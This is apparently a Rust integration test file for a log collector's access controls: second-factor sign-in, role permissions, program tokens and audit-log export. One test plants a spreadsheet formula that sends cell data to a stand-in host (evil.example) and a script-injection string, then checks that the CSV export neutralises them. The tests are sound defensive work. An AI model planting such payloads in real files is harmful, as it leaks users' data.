//! People and tokens at the door of a whole collector: who gets in, by what, for how long, and what is written down of it.

use std::time::Duration;

use farol_collector::access::totp;
use serde_json::{Value, json};

use crate::{
    harness::{Collector, Reply, now_ms},
    people::{PASSWORD, agent_token, person, send, sign_in},
};

const JSON: (&str, &str) = ("content-type", "application/json");

async fn login(collector: &Collector, headers: &[(&str, &str)], body: Value) -> Reply {
    let headers: Vec<_> = headers.iter().copied().chain([JSON]).collect();
    collector.ask("POST", "/api/auth/login", &headers, body.to_string().as_bytes()).await
}

async fn get(collector: &Collector, token: &str, path: &str) -> Reply {
    send(collector, token, "GET", path, &Value::Null).await
}

/// The bytes of a secret in base32, as an app reads it.
fn unbase32(text: &str) -> Vec<u8> {
    let digits = text.bytes().map(|b| u64::from(if b.is_ascii_uppercase() { b - b'A' } else { b - b'2' + 26 }));
    let bits: Vec<bool> = digits.flat_map(|five| (0..5).rev().map(move |bit| five >> bit & 1 == 1)).collect();
    bits.chunks_exact(8).map(|eight| eight.iter().fold(0, |byte, bit| byte << 1 | u8::from(*bit))).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn somebody_sets_up_a_second_factor_and_signs_in_with_it() {
    let (collector, _dir) = Collector::fresh().await;
    let admin = collector.sign_in().await;
    let ana = person(&collector, &admin, "ana", "operator", Some("acme")).await;
    let offer = send(&collector, &ana, "POST", "/api/auth/second-factor/begin", &json!({ "password": PASSWORD })).await;
    assert_eq!(offer.status, 200, "{offer:?}");
    let secret = unbase32(offer.json()["secret"].as_str().unwrap());
    // The step is named, not the second, so that the test may take as long as it likes between two lines.
    let step = now_ms() / totp::STEP_MS;
    let code = |step: i64| format!("{:06}", totp::code_of(&secret, step));
    let confirmed = send(&collector, &ana, "POST", "/api/auth/second-factor/confirm", &json!({ "code": code(step) })).await;
    assert_eq!(confirmed.status, 200, "{confirmed:?}");
    let cookie = confirmed.headers["set-cookie"].split(';').next().unwrap().to_owned();
    assert_eq!(get(&collector, &ana, "/api/auth/me").await.status, 401, "the sign-in of before has ended");
    let me = collector.ask("GET", "/api/auth/me", &[("cookie", &cookie)], b"").await;
    assert_eq!((&me.json()["second_factor"], &me.json()["tenant"]), (&json!(true), &json!("acme")));
    let with = |code: &str| json!({ "username": "ana", "password": PASSWORD, "code": code });
    let missing = login(&collector, &[], json!({ "username": "ana", "password": PASSWORD })).await;
    assert_eq!((missing.status, &missing.json()["code"]), (401, &json!("second_factor_required")));
    assert!(!missing.headers.contains_key("set-cookie"));
    let replayed = login(&collector, &[], with(&code(step))).await;
    assert_eq!((replayed.status, &replayed.json()["code"]), (401, &json!("second_factor_wrong")));
    assert_eq!(login(&collector, &[], with(&code(step + 1))).await.status, 200);
    let recovery = confirmed.json()["recovery_codes"][3].as_str().unwrap().to_owned();
    assert_eq!(login(&collector, &[], with(&recovery)).await.status, 200);
    assert_eq!(login(&collector, &[], with(&recovery)).await.status, 401, "a recovery code works once");
    let list = collector.json(&admin, "/api/v1/users").await;
    assert_eq!(list["users"][1]["second_factor"], true);
    collector.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_restart_forgets_neither_accounts_nor_second_factors_nor_tokens() {
    let (collector, dir) = Collector::fresh().await;
    let admin = collector.sign_in().await;
    let ana = person(&collector, &admin, "ana", "operator", None).await;
    let made = send(&collector, &ana, "POST", "/api/v1/api-tokens", &json!({ "name": "ci" })).await.json();
    let offer =
        send(&collector, &admin, "POST", "/api/auth/second-factor/begin", &json!({ "password": crate::harness::PASSWORD })).await;
    let secret = unbase32(offer.json()["secret"].as_str().unwrap());
    let step = now_ms() / totp::STEP_MS;
    let code = format!("{:06}", totp::code_of(&secret, step));
    assert_eq!(send(&collector, &admin, "POST", "/api/auth/second-factor/confirm", &json!({ "code": code })).await.status, 200);
    collector.stop().await;
    let collector = Collector::start(crate::harness::settings(dir.path())).await;
    assert_eq!(get(&collector, &ana, "/api/auth/me").await.status, 200, "the login token goes on");
    assert_eq!(get(&collector, made["token"].as_str().unwrap(), "/api/auth/me").await.status, 200);
    let code = format!("{:06}", totp::code_of(&secret, step + 1));
    let body = json!({ "username": "admin", "password": crate::harness::PASSWORD, "code": code });
    assert_eq!(login(&collector, &[], body).await.status, 200);
    collector.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn accounts_are_looked_after_by_super_administrators_of_the_house_alone() {
    let (collector, _dir) = Collector::fresh().await;
    let admin = collector.sign_in().await;
    let rows = [("viewer", None), ("admin", None), ("super_admin", Some("acme"))];
    for (role, tenant) in rows {
        let token = person(&collector, &admin, &format!("{role}-x"), role, tenant).await;
        for (method, path, body) in [
            ("GET", "/api/v1/users", Value::Null),
            ("POST", "/api/v1/users", json!({ "username": "eve", "role": "super_admin" })),
            ("PATCH", "/api/v1/users/viewer-x", json!({ "role": "super_admin" })),
            ("DELETE", "/api/v1/users/admin", Value::Null),
            ("DELETE", "/api/v1/users/admin/sessions", Value::Null),
        ] {
            let refused = send(&collector, &token, method, path, &body).await;
            assert_eq!(refused.status, 403, "{role} {method} {path}: {refused:?}");
        }
    }
    let last = send(&collector, &admin, "PATCH", "/api/v1/users/admin", &json!({ "role": "viewer" })).await;
    assert_eq!((last.status, &last.json()["code"]), (409, &json!("last_super_admin")));
    let disabled = send(&collector, &admin, "PATCH", "/api/v1/users/viewer-x", &json!({ "disabled": true })).await;
    assert_eq!((disabled.status, &disabled.json()["disabled"]), (200, &json!(true)));
    let refused = login(&collector, &[], json!({ "username": "viewer-x", "password": PASSWORD })).await;
    assert_eq!((refused.status, &refused.json()["code"]), (403, &json!("disabled")));
    send(&collector, &admin, "PATCH", "/api/v1/users/viewer-x", &json!({ "disabled": false })).await;
    sign_in(&collector, "viewer-x").await;
    assert_eq!(send(&collector, &admin, "DELETE", "/api/v1/users/viewer-x", &Value::Null).await.status, 204);
    assert_eq!(login(&collector, &[], json!({ "username": "viewer-x", "password": PASSWORD })).await.status, 401);
    collector.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_token_for_programs_reads_but_changes_no_account() {
    let (collector, _dir) = Collector::fresh().await;
    let admin = collector.sign_in().await;
    let made = send(&collector, &admin, "POST", "/api/v1/api-tokens", &json!({ "name": "ci", "expires_in_days": 1 })).await;
    assert_eq!(made.status, 201, "{made:?}");
    let token = made.json()["token"].as_str().unwrap().to_owned();
    for path in ["/api/v1/resources", "/api/v1/users", "/api/v1/tokens", "/api/v1/audit", "/metrics"] {
        assert_eq!(get(&collector, &token, path).await.status, 200, "{path}");
    }
    let agents = agent_token(&collector, &token, "made by a program", Some("acme")).await;
    assert!(agents.starts_with("farol_") && !agents.starts_with("farol_api_"));
    for (method, path, body) in [
        ("POST", "/api/v1/users", json!({ "username": "eve", "role": "super_admin" })),
        ("PATCH", "/api/v1/users/admin", json!({ "password": "another secret" })),
        ("POST", "/api/v1/api-tokens", json!({ "name": "child" })),
        ("POST", "/api/auth/password", json!({ "current": crate::harness::PASSWORD, "new": "another secret" })),
        ("POST", "/api/auth/second-factor/begin", json!({ "password": crate::harness::PASSWORD })),
    ] {
        let refused = send(&collector, &token, method, path, &body).await;
        assert_eq!((refused.status, &refused.json()["code"]), (403, &json!("session_needed")), "{path}");
    }
    let id = &made.json()["token_row"]["id"];
    assert_eq!(send(&collector, &admin, "DELETE", &format!("/api/v1/api-tokens/{id}"), &Value::Null).await.status, 204);
    assert_eq!(get(&collector, &token, "/api/v1/resources").await.status, 401);
    let rows = collector.json(&admin, "/api/v1/tokens").await;
    let row = &rows["tokens"][0];
    assert_eq!(
        (&row["name"], &row["tenant"], &row["created_by"]),
        (&json!("made by a program"), &json!("acme"), &json!("admin"))
    );
    collector.stop().await;
}

/// Rows and cells of a file after RFC 4180, quotes taken away.
fn cells(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut is_quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut rest = text.chars().peekable();
    while let Some(c) = rest.next() {
        match c {
            '"' if is_quoted && rest.peek() == Some(&'"') => cell.extend(rest.next()),
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !is_quoted => {}
            '\n' if !is_quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            c => cell.push(c),
        }
    }
    rows
}

#[tokio::test(flavor = "multi_thread")]
async fn the_audit_log_is_a_file_in_which_strangers_words_stay_words() {
    let (collector, _dir) = Collector::fresh().await;
    let admin = collector.sign_in().await;
    let formula = "=HYPERLINK(\"http://evil.example?\"&A1,\"click\")";
    let agent = format!("{formula}, \"quoted\"; <script>alert(1)</script>");
    person(&collector, &admin, "+ana", "viewer", None).await;
    assert_eq!(
        login(&collector, &[("user-agent", &agent)], json!({ "username": "+ana", "password": PASSWORD })).await.status,
        200
    );
    agent_token(&collector, &admin, formula, None).await;
    let reply = get(&collector, &admin, "/api/v1/audit/export").await;
    assert_eq!(reply.status, 200);
    assert_eq!(reply.headers["content-type"], "text/csv; charset=utf-8");
    assert!(reply.headers["content-disposition"].contains("farol-audit.csv"));
    let rows = cells(&dechunked(&reply));
    assert_eq!(rows[0][..4], ["id", "time", "username", "role"]);
    assert!(rows.iter().all(|row| row.len() == 11), "{rows:?}");
    assert!(rows.iter().flatten().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{rows:?}");
    assert_eq!(rows[1][5], "export", "the export itself is its first line");
    let token = rows.iter().find(|row| row[5] == "token.create").unwrap();
    assert_eq!(token[6], format!("'{formula}"));
    let login = rows.iter().find(|row| row[5] == "login" && row[7].contains("evil")).unwrap();
    assert_eq!(login[2], "'+ana");
    assert_eq!(serde_json::from_str::<Value>(&login[7]).unwrap()["agent"], agent);
    let lines = dechunked(&get(&collector, &admin, "/api/v1/audit/export?format=ndjson&action=login&username=%2Bana").await);
    let lines: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(lines.len(), 2);
    assert!(lines.iter().all(|line| line["username"] == "+ana" && line["action"] == "login"));
    let whole = dechunked(&get(&collector, &admin, "/api/v1/audit/export?format=json&to=1").await);
    assert_eq!(serde_json::from_str::<Value>(&whole).unwrap(), json!({ "entries": [] }));
    for wrong in ["format=xls", "from=5&to=5", "limit=5"] {
        assert_eq!(get(&collector, &admin, &format!("/api/v1/audit/export?{wrong}")).await.status, 400, "{wrong}");
    }
    collector.stop().await;
}

/// A body that came in pieces (RFC 9112, section 7.1).
fn dechunked(reply: &Reply) -> String {
    if reply.headers.get("transfer-encoding").is_none_or(|coding| coding != "chunked") {
        return reply.text();
    }
    let (mut whole, mut rest) = (Vec::new(), &reply.body[..]);
    loop {
        let end = rest.windows(2).position(|two| two == b"\r\n").expect("the length of a piece");
        let length = usize::from_str_radix(str::from_utf8(&rest[..end]).unwrap(), 16).unwrap();
        whole.extend_from_slice(&rest[end + 2..end + 2 + length]);
        rest = &rest[end + 2 + length + 2..];
        if length == 0 {
            return String::from_utf8(whole).unwrap();
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_long_audit_log_comes_whole_and_in_order() {
    let (collector, dir) = Collector::fresh().await;
    let admin = collector.sign_in().await;
    let mut db = farol_collector::state::StateDb::open(&dir.path().join(farol_collector::state::FILE_NAME)).unwrap();
    db.together(|db| {
        (0..2_345).try_for_each(|number| {
            db.note_audit(&farol_collector::state::AuditStart {
                time_ms: number,
                username: "ana".to_owned(),
                role: "admin".to_owned(),
                address: None,
                action: "many".to_owned(),
                target: number.to_string(),
                detail: "{}".to_owned(),
                reason: None,
            })
        })
    })
    .unwrap();
    for format in ["csv", "ndjson", "json"] {
        let text = dechunked(&get(&collector, &admin, &format!("/api/v1/audit/export?format={format}&action=many")).await);
        let targets: Vec<i64> = match format {
            "csv" => cells(&text)[1..].iter().map(|row| row[6].parse().unwrap()).collect(),
            "ndjson" => text.lines().map(|line| target(&serde_json::from_str(line).unwrap())).collect(),
            _ => serde_json::from_str::<Value>(&text).unwrap()["entries"].as_array().unwrap().iter().map(target).collect(),
        };
        assert_eq!(targets, (0..2_345).rev().collect::<Vec<_>>(), "{format}");
    }
    let page = collector.json(&admin, "/api/v1/audit?limit=10&action=many&from=100&to=200").await;
    let targets: Vec<i64> = page["entries"].as_array().unwrap().iter().map(target).collect();
    assert_eq!(targets, (190..200).rev().collect::<Vec<_>>());
    collector.stop().await;
}

fn target(entry: &Value) -> i64 {
    entry["target"].as_str().unwrap().parse().unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn what_the_command_line_changes_holds_for_a_running_collector() {
    let (collector, dir) = Collector::fresh().await;
    let admin = collector.sign_in().await;
    let ana = person(&collector, &admin, "ana", "operator", None).await;
    let mut db = farol_collector::state::StateDb::open(&dir.path().join(farol_collector::state::FILE_NAME)).unwrap();
    let change = farol_collector::state::UserChange { is_disabled: Some(true), ..Default::default() };
    db.change_user("ana", &change, now_ms()).unwrap();
    while get(&collector, &ana, "/api/auth/me").await.status != 401 {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    collector.stop().await;
}
